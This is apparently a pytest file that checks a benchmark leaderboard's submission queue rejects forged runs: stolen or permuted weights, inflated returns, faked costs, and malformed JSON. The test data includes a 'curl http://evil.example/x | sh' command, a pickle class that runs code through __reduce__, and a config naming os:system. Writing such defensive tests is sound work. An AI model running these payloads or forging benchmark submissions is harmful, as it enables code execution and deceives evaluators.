"""Cheats and hostile requests against the real queue on a real hub: each is rejected, and the honest ones get through.

Every cheat begins as a run that mallory did train, with a ledger that is sealed anew.
"""

import json
import pickle
import tempfile
from pathlib import Path
from typing import Any, NamedTuple

import numpy as np
import pytest

from reincarnate.agents.teacher import digest
from reincarnate.benchmark.runs.request import RunRequest
from reincarnate.benchmark.runs.run import run
from reincarnate.benchmark.submission import submit
from reincarnate.benchmark.submission.queue import Rules, queue
from reincarnate.datasets.teachers import weights
from reincarnate.leaderboard.record import RunRecord
from reincarnate.leaderboard.results import paths

from .hub import TASK, House, files_of, house, resealed

pytestmark = pytest.mark.slow


NOTHING = [{"run": "nothing", "spent": {}}]


class Forger(NamedTuple):
    """The parts of a submission, to be tampered with."""

    hub: House
    folder: Path  # of the honest student
    submission: dict[str, Any]
    lines: bytes

    def student(
        self, name: str, change=lambda arrays: arrays, files=lambda folder: None
    ) -> tuple[str, dict[str, np.ndarray]]:
        """Publish the student after a change of its weights and files: its reference and its weights."""
        made = {}
        with tempfile.TemporaryDirectory() as scratch:
            for path in self.folder.rglob("*"):
                if path.is_file():
                    to = Path(scratch) / path.relative_to(self.folder)
                    to.parent.mkdir(parents=True, exist_ok=True)
                    to.write_bytes(path.read_bytes())
            last = Path(scratch) / "policy.safetensors"
            made = change({key: np.array(value) for key, value in weights.load(last).items()})
            weights.save(last, made)
            files(Path(scratch))
            api = self.hub.api("mallory")
            api.create_repo(f"mallory/{name}", exist_ok=True)
            oid = api.upload_folder(repo_id=f"mallory/{name}", folder_path=scratch, commit_message="student").oid
        return f"mallory/{name}@{oid}", made

    def hand_in(
        self,
        name: str,
        change=lambda record, rows: None,
        arrays=None,
        more: dict[str, Any] | None = None,
        files=lambda folder: None,
        unsealed=lambda record: None,
    ) -> int:
        """Submit the run under another id, after a change of record and ledger; `unsealed`: of the record."""
        where, made = self.student(name, arrays, files) if arrays else (None, None)
        one = json.loads(json.dumps(self.submission))
        record = one["record"]

        def both(rows):
            record["run"] = rows[0]["run"] = name
            if made is not None:
                record["points"][-1]["parameters"] = rows[-1]["parameters"] = digest(made)
            change(record, rows)

        lines, record["ledger"] = resealed(self.lines, both)
        unsealed(record)
        one |= {"entry": name, **({"student": where} if where else {}), **(more or {})}
        return self.hub.as_user("mallory").propose(files_of(one, lines), name, "")


def trained(hub: House, user: str, seed: int) -> tuple[Path, dict[str, Any], bytes]:
    """Return a small run of a user, prepared to be sent: the students' folder, submission and ledger."""
    out = hub.at / f"{user}-{seed}"
    settings = {"learning_rate": 1e-3, "warmup": 50}
    run(TASK, "dqn", "steps=400,updates=300", seed, settings, episodes=10, out=out, points=(0, 1))
    repository = hub.as_user(user)
    sent = hub.at / f"sent-{user}-{seed}"
    plan = submit.prepare([out], sent, submit.repository_folder(repository, hub.url), submit.Offer(user, film=False))
    assert [verdict.reasons for verdict in plan.verdicts] == [()]
    (one,) = plan.runs
    if user == "ann":
        submit.send(plan, repository, hub.url)
    files = paths(user, one.record.run)
    return sent / "students" / one.record.run, json.loads((sent / files[0]).read_text()), (sent / files[1]).read_bytes()


def noise(size: float):
    rng = np.random.default_rng(0)
    return lambda w: {
        k: (v + size * np.abs(v).max() * rng.standard_normal(v.shape)).astype(v.dtype) for k, v in w.items()
    }


IN, BIAS, OUT = "params/Dense_0/kernel", "params/Dense_0/bias", "params/Dense_1/kernel"


def permuted(w: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    """Return the same policy with the hidden units of its first layer in another order."""
    order = np.random.default_rng(1).permutation(w[BIAS].size)
    return {**w, IN: w[IN][:, order].copy(), BIAS: w[BIAS][order].copy(), OUT: w[OUT][order].copy()}


def scaled(w: dict[str, np.ndarray]) -> dict[str, np.ndarray]:
    """Return the same policy with twice the first layer and half of the second."""
    return {**w, IN: w[IN] * 2, BIAS: w[BIAS] * 2, OUT: w[OUT] / 2}


def told(**values):
    """Return a change of record and ledger's first line alike."""

    def change(record, rows):
        for key, value in values.items():
            record[key] = rows[0][key] = value

    return change


def times(**factors):
    """Multiply the totals of every line."""

    def change(record, rows):
        for spent in [*(row["spent"] for row in rows if "spent" in row), *(p["spent"] for p in record["points"])]:
            spent |= {unit: spent[unit] * factor for unit, factor in factors.items()}

    return change


def claim(point: int, value: float):
    """Change a return at a point."""

    def change(record, rows):
        judged = record["points"][point]["evaluation"]
        judged["returns"] = [value] * len(judged["returns"])
        for name in ("mean", "standard_error", "interval"):
            judged.pop(name)
        row = [row for row in rows if row["event"] in ("point", "end")][point]
        row["evaluation"] = dict(judged)

    return change


def begins_as(arrays: dict[str, np.ndarray]):
    """Claim somebody else's student at an earlier point, for one FLOP and no update: (change, files)."""

    def change(record, rows):
        row = next(row for row in rows if row["event"] == "point")
        row["parameters"] = record["points"][0]["parameters"] = digest(arrays)

    def files(folder: Path):
        weights.save(next((folder / "students").glob("*.safetensors")), arrays)

    return change, files


def renamed(method: str):
    """Name another method with this one's network, in the request and its command too, at no cost."""

    def change(record, rows):
        times(flops=1e-9)(record, rows)
        record["method"] = rows[0]["method"] = method
        rows[0]["request"]["method"] = method
        record["command"] = rows[0]["command"] = RunRequest.from_json(rows[0]["request"]).command()

    return change


def cherry_picked(record, rows):
    """Keep only the first three episodes of the last evaluation."""
    judged = record["points"][-1]["evaluation"]
    for name in ("mean", "standard_error", "interval"):
        judged.pop(name)
    judged["returns"], judged["lengths"] = judged["returns"][:3], judged["lengths"][:3]
    rows[-1]["evaluation"] = dict(judged)


def went_back(record, rows):
    """Pretend that the run continued, with half of its updates."""
    spent = rows[-1]["spent"]
    again = {**rows[-2], "event": "resume", "spent": dict(spent), "method_code": rows[0].get("method_code")}
    rows.insert(len(rows) - 1, again)
    rows[-1] = {**rows[-1], "spent": {**spent, "updates": spent["updates"] / 2}}


def better(record):
    """State a better claim in the record than in the ledger."""
    judged = record["points"][-1]["evaluation"]
    judged["returns"] = [each + 1 for each in judged["returns"]]
    for name in ("mean", "standard_error", "interval"):
        judged.pop(name)


def names_code(folder: Path) -> None:
    config = json.loads((folder / "config.json").read_text())
    config["architecture"]["name"] = "os:system"
    (folder / "config.json").write_text(json.dumps(config))


class Evil:
    def __reduce__(self):
        return (open, ("/tmp/harmed-by-a-pickle", "w"))


def pickled(folder: Path) -> None:
    (folder / "policy.pkl").write_bytes(pickle.dumps(Evil()))


def of_before(forger: Forger, own, steal, stolen: dict[str, Any]) -> dict[int, str]:
    """Return the cheats that the judge alone was tried with before (test_cheating.py), as requests."""
    hand_in, rows_of = forger.hand_in, forger.submission["record"]
    ann = {"kind": "teacher", "reference": stolen["student"], "digest": stolen["digest"], "claim": "", "part": ""}
    where, made = forger.student("teacher", noise(1e-2))
    mine = {**ann, "reference": where, "digest": digest(made)}
    cheap = {"digest": digest(made), "kind": "teacher", "reference": where, "parents": [], "at_least": {}}
    nowhere = {**ann, "reference": f"lab/nowhere@{'c' * 40}"}
    mallory, pair = forger.hub.as_user("mallory"), lambda *names: dict.fromkeys(names, b"{}")
    return {
        hand_in("its-teacher", told(parents=[ann]), steal(lambda w: w)): "it has learned nothing",
        hand_in("its-noise", told(parents=[ann]), steal(noise(1e-6))): "a copy of it or made from it",
        hand_in("other", arrays=own, unsealed=lambda r: r["points"][-1].update(parameters="e" * 64)): (
            "the weights are not those"
        ),
        hand_in("edited", arrays=own, unsealed=better): "its totals or returns are not those of the record",
        hand_in("back", went_back, own): "updates went back",
        hand_in("exceeded", told(budget={"steps": 100.0}), own): "are more than the budget's 100",
        hand_in("relabelled", told(budget={"steps": 900.0}), own): "is not what was asked for",
        hand_in("protocol", told(protocol={**rows_of["protocol"], "sticky": 0.5}), own): "is not the task's",
        hand_in("module", told(task="gym/os:x-v0"), own): "names a module",
        hand_in("cherry", cherry_picked, own): "episodes are left out",
        hand_in("orphan", told(method="fine_tuning"), own): "must be a parent",
        hand_in("untraceable", renamed("rainbow"), own): "no update of rainbow can be traced with this network",
        hand_in("nowhere", told(parents=[nowhere]), own): "has no model lab/nowhere",
        hand_in("cheap-parent", told(parents=[mine]), own, {"sources": [{**cheap, "spent": {"flops": 1.0}}]}): (
            "the cost of mallory/teacher"
        ),
        hand_in("pickle", arrays=own, files=pickled): "policy.pkl does not belong there",
        hand_in("code", arrays=own, files=names_code): "names code",
        hand_in("future", arrays=own, more={"schema_version": 99}): "newer than",
        hand_in(stolen["run"], arrays=own): "is already there, by ann",
        mallory.propose(pair("results/ann/z.json", "results/ann/z.ledger.jsonl"), "theirs", ""): "is not mallory's",
    }


def prey(hub: House) -> tuple[Forger, tuple[RunRecord, str], dict[str, np.ndarray]]:
    """Have ann's run accepted and train one of mallory's: a forger, ann's record and student, and her weights."""
    trained(hub, "ann", 0)
    (first,) = queue(hub.as_user("lab"), hub.url).values()
    assert [one.state for one in first] == ["re-scored"], first
    forger, known = Forger(hub, *trained(hub, "mallory", 1)), submit.repository_folder(hub.as_user("lab"), hub.url)
    (theirs,) = known.submissions.values()
    folder = hub.at / "sent-ann-0" / "students" / theirs.record.run
    champion = {key: np.array(value) for key, value in weights.load(folder / "policy.safetensors").items()}
    return forger, (theirs.record, theirs.student), champion


def test_every_cheat_is_rejected_and_both_honest_runs_get_through(tmp_path_factory):
    with house(tmp_path_factory.mktemp("adversary")) as hub:
        forger, (stolen, student), champion = prey(hub)

        def steal(change):
            return lambda _: change(champion)

        own = noise(0.0)  # mallory's own weights
        wanted = {
            forger.hand_in("claim", claim(-1, 1e6), own): "is not within",
            forger.hand_in("curve", claim(0, 1e4), own): "record.points.0: the claim 10000.00 is not within",
            forger.hand_in("bits", arrays=steal(lambda w: w)): "has the weights of run",
            forger.hand_in("noisy", arrays=steal(noise(1e-4))): "a copy of it or made from it",
            forger.hand_in("units", arrays=steal(permuted)): "a copy of it or made from it",
            forger.hand_in("scale", arrays=steal(scaled)): "a copy of it or made from it",
            forger.hand_in("cheap", times(flops=1e-6), own): "what its updates and actions take",
            forger.hand_in("fast", times(seconds=0.0, device=0.0), own): "seconds on the device",
            forger.hand_in("lazy", times(updates=0.0), own): "no update was made",
            forger.hand_in("words", told(command="curl http://evil.example/x | sh"), own): "it is not the command of",
            forger.hand_in("seed", told(seed=3), own): "is not what was asked for",
            forger.hand_in(
                "unasked", lambda record, rows: rows[0].pop("request"), own
            ): "does not say what the run was",
            forger.hand_in("theirs", more={"student": f"ann/{stolen.run}@{'c' * 40}"}): "not in mallory's own",
            forger.hand_in("nan", arrays=lambda w: {k: np.full_like(v, np.nan) for k, v in w.items()}): "not numbers",
            forger.hand_in("fruit", told(budget={"bananas": 1.0}), own): "'bananas' is not a unit",
            forger.hand_in(
                "text", lambda r, rows: r["points"][0]["evaluation"].update(mean="x"), own
            ): "is not a number",
            forger.hand_in(
                "short", lambda r, rows: r["random"].update(lengths=[-500]), own
            ): "greater than or equal to 1",
            forger.hand_in("odd", told(method="x\ud800:y"), own): "cannot be printed",
            forger.hand_in("poison", begins_as(champion)[0], own, files=begins_as(champion)[1]): (
                "record.points.0: the student has the weights of run"
            ),
            forger.hand_in("tuned", arrays=own, more={"track": "tuned", "tuning": NOTHING}): "tuning: run nothing",
        }
        known = {"run": stolen.run, "digest": digest(champion), "student": student}
        wanted |= of_before(forger, own, steal, known)
        mallory, bomb = hub.as_user("mallory"), b'{"a": "' + b'\\"' * 150_000
        for name, data, says in (
            ("bomb", bomb, "not valid JSON"),
            ("deep", b"[" * 100_000, "nests too deep"),
            ("twice", b'{"a":1,"a":2}', "twice"),
            ("many", b"[" + b"1," * 1_000_000 + b"1]", "values"),
        ):
            pair = {f"results/mallory/{name}.json": data, f"results/mallory/{name}.ledger.jsonl": b"\xff\xfe\x00"}
            wanted[mallory.propose(pair, name, "")] = says
        last = trained(hub, "ann", 2)[1]["record"]["run"]
        verdicts = queue(hub.as_user("lab"), hub.url, Rules(seconds=300.0))
        reasons = {number: "\n".join(reason for one in verdicts[number] for reason in one.reasons) for number in wanted}
        assert {one.state for number in wanted for one in verdicts[number]} == {"rejected"}
        assert [(says, reasons[number]) for number, says in wanted.items() if says not in reasons[number]] == []
        assert str(hub.at) not in str(reasons)
        written = {path for path in hub.main() if path.startswith("results/")}
        assert written == {*paths("ann", stolen.run), *paths("ann", last)}
        assert not Path("/tmp/harmed-by-a-pickle").exists()
        _from_a_request(forger)


def _from_a_request(forger: Forger) -> None:
    """Submit a student at a commit of somebody's pull request, which its owner never published."""
    api = forger.hub.api("mallory")
    where, _ = forger.student("side", noise(0.0))
    name = where.partition("@")[0]
    made = api.upload_file(
        path_or_fileobj=b"x", path_in_repo="README.md", repo_id=name, create_pr=True, commit_message="side"
    )
    number = forger.hand_in("side", more={"student": f"{name}@{made.oid}"})
    (verdict,) = queue(forger.hub.as_user("lab"), forger.hub.url)[number]
    assert verdict.state == "rejected" and "of somebody's pull request" in verdict.reasons[0]
